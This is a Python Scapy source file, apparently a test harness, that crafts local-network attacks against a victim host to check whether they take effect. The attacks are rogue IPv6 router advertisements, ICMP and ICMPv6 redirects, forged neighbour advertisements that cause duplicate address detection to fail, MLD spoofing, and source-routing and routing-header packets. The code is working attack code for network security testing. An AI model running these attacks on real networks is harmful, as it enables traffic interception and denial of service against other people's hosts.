# A4: what a neighbour may not tell a neighbour: routes, prefixes, that an address is taken.

def ours(e): return link_local(e.me['mac'])

@attack('A4', 'router advertisement to everybody', changes('victim', 'ip -6 route show; ip -6 -o addr show dev eth0 | cut -d" " -f7'), (6,))
def _(e, f):
    for src in (ours(e), 'fe80::1'):
        send(Ether(src=e.me['mac'], dst='33:33:00:00:00:01') / IPv6(src=src, dst='ff02::1', hlim=255)
             / ICMPv6ND_RA(routerlifetime=1800, prf=1) / ICMPv6NDOptSrcLLAddr(lladdr=e.me['mac'])
             / ICMPv6NDOptPrefixInfo(prefix='2001:db8:666::', prefixlen=64))

@attack('A4', 'router advertisement to the victim', arrives('victim'), (6,))
def _(e, f):
    for src in (ours(e), e.me[6], 'fe80::1', '::'):
        send(Ether(src=e.me['mac'], dst=e.victim['mac']) / IPv6(src=src, dst=e.victim[6], hlim=255)
             / ICMPv6ND_RA(routerlifetime=1800) / ICMPv6NDOptSrcLLAddr(lladdr=e.me['mac']))

def redirect(e, f, to):
    """The gateway's word that the way to the LAN is over us, about a ping and about nothing."""
    head = Ether(src=e.me['mac'], dst=to)
    if f == 4:
        yield (head / IP(src=e.gate[4], dst=e.victim[4]) / ICMP(type=5, code=1, gw=e.me[4])
               / IP(src=e.victim[4], dst=e.lan[4]) / UDP(sport=4000, dport=9))
        return
    quoted = IPv6(src=e.victim[6], dst=e.lan[6]) / ICMPv6EchoRequest(id=7)
    for end in (ICMPv6NDOptRedirectedHdr(pkt=bytes(quoted)), Raw()):
        yield (head / IPv6(src='fe80::1', dst=e.victim[6], hlim=255) / ICMPv6ND_Redirect(tgt=ours(e), dst=e.lan[6])
               / ICMPv6NDOptDstLLAddr(lladdr=e.me['mac']) / end)

@attack('A4', 'redirect of the way out', changes('victim', 'ip route get {lan4} | grep -o "via [^ ]*"'), (4,))
@attack('A4', 'redirect, IPv6', arrives('victim'), (6,))
def _(e, f):
    for p in redirect(e, f, e.victim['mac']): send(p)

@attack('A4', 'denial of an address to whoever takes it', changes('victim', 'ip -6 addr show dev eth0 dadfailed | grep -c dadfailed'), (6,),
        during='ip -6 addr del {fresh6}/64 dev eth0 2>/dev/null; sysctl -qw net.ipv6.conf.eth0.accept_dad=1 net.ipv6.conf.eth0.dad_transmits=1; '
               'ip -6 addr add {fresh6}/64 dev eth0')
def _(e, f):
    for _ in range(40):
        send(Ether(src=e.me['mac'], dst='33:33:00:00:00:01') / IPv6(src=e.fresh[6], dst='ff02::1', hlim=255)
             / ICMPv6ND_NA(tgt=e.fresh[6], R=0, S=0, O=1) / ICMPv6NDOptDstLLAddr(lladdr=e.me['mac']))
        send(Ether(src=e.me['mac'], dst=group_mac(solicited(e.fresh[6]))) / IPv6(src='::', dst=solicited(e.fresh[6]), hlim=255) / ICMPv6ND_NS(tgt=e.fresh[6]))
        time.sleep(0.02)

for name, body in {'query': lambda: ICMPv6MLQuery(), 'report': lambda: ICMPv6MLReport(mladdr='ff02::fb'), 'done': lambda: ICMPv6MLDone(mladdr='ff02::fb')}.items():
    @attack('A4', f'multicast listener {name}', families=(6,))
    def _(e, f, body=body):
        for src in (ours(e), 'fe80::1', e.me[6]):
            for dst, to in (('ff02::1', '33:33:00:00:00:01'), (e.victim[6], e.victim['mac'])):
                send(Ether(src=e.me['mac'], dst=to) / IPv6(src=src, dst=dst, hlim=1) / IPv6ExtHdrHopByHop(options=[PadN()]) / body())

for what, to in (('solicitation', 'ff02::2'), ('question to all nodes', 'ff02::1')):
    @attack('A4', f'{what} of the link', families=(6,))
    def _(e, f, to=to):
        for dmac in (group_mac('ff02::1'), e.victim['mac']):
            send(Ether(src=e.me['mac'], dst=dmac) / IPv6(src=ours(e), dst=to) / ICMPv6EchoRequest(data=TOKEN))

OPTIONS = {'loose source routing': 0x83, 'strict source routing': 0x89, 'record route': 0x07}
for what, kind in OPTIONS.items():
    for path in ('straight', 'through the gateway'):
        @attack('A4', f'{what}, {path}', families=(4,))
        def _(e, f, kind=kind, path=path):
            option = bytes([kind, 7, 4]) + socket.inet_aton(e.victim[4]) + b'\0'
            to = e.victim['mac'] if path == 'straight' else e.gate['mac']
            # Through the gateway it is addressed to the gateway, but to record a route.
            dst = e.victim[4] if path == 'straight' or kind == 7 else e.gate[4]
            send(Ether(src=e.me['mac'], dst=to) / IP(src=e.me[4], dst=dst, options=[IPOption(option)]) / UDP(sport=4000, dport=4000) / TOKEN)

for kind in (0, 2, 4, 253):
    @attack('A4', f'routing header of type {kind}', families=(6,))
    def _(e, f, kind=kind):
        for to, dst in ((e.victim['mac'], e.victim[6]), (e.gate['mac'], e.gate[6]), (e.gate['mac'], e.victim[6])):
            send(Ether(src=e.me['mac'], dst=to) / IPv6(src=e.me[6], dst=dst) / IPv6ExtHdrRouting(type=kind, addresses=[e.victim[6]], segleft=1 if kind != 4 else 0)
                 / UDP(sport=4000, dport=4000) / TOKEN)
